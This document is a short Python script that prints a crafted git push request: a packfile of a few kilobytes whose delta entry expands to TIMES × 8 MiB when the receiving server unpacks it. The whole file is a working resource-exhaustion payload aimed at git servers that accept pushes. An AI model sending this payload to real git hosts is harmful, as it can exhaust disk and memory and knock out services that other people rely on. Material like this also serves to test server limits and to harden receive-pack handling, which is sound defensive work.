#!/usr/bin/env python3
"""Prints what a client sends to git-receive-pack: a push of a few kilobytes, which becomes a file of so
many times 8 MiB while git unpacks it: delta_bomb.py TIMES. See gitformat-pack(5)."""

import hashlib
import struct
import sys
import zlib

COMMIT, TREE, BLOB, REF_DELTA = 1, 2, 3, 7
PIECE = bytes(8 << 20)
COPY_PIECE = bytes([0xC0, 0x80])  # from the beginning, 0x80 << 16 bytes


def number(value):
    """Seven bits a byte, the lowest first."""
    return (bytes([value & 127 | 128]) + number(value >> 7)) if value > 127 else bytes([value])


def entry(kind, size, content):
    first = kind << 4 | size & 15
    return (bytes([first | 128]) + number(size >> 4) if size > 15 else bytes([first])) + content


def name(kind, pieces):
    sha = hashlib.sha1(b"%s %d\0" % (kind, sum(map(len, pieces))))
    for piece in pieces:
        sha.update(piece)
    return sha.digest()


def main():
    times = int(sys.argv[1])
    delta = number(len(PIECE)) + number(len(PIECE) * times) + COPY_PIECE * times
    tree = b"100644 large\0" + name(b"blob", [PIECE] * times)
    commit = b"tree %s\nauthor e <e@x> 1 +0000\ncommitter e <e@x> 1 +0000\n\nx\n"
    commit %= name(b"tree", [tree]).hex().encode()
    entries = [
        entry(BLOB, len(PIECE), zlib.compress(PIECE)),
        entry(REF_DELTA, len(delta), name(b"blob", [PIECE]) + zlib.compress(delta)),
        entry(TREE, len(tree), zlib.compress(tree)),
        entry(COMMIT, len(commit), zlib.compress(commit)),
    ]
    pack = struct.pack(">4sII", b"PACK", 2, len(entries)) + b"".join(entries)
    sha = name(b"commit", [commit]).hex()
    line = f"{'0' * 40} {sha} refs/tags/large\0report-status\n".encode()
    request = b"%04x%s0000" % (len(line) + 4, line)
    sys.stdout.buffer.write(request + pack + hashlib.sha1(pack).digest())


main()
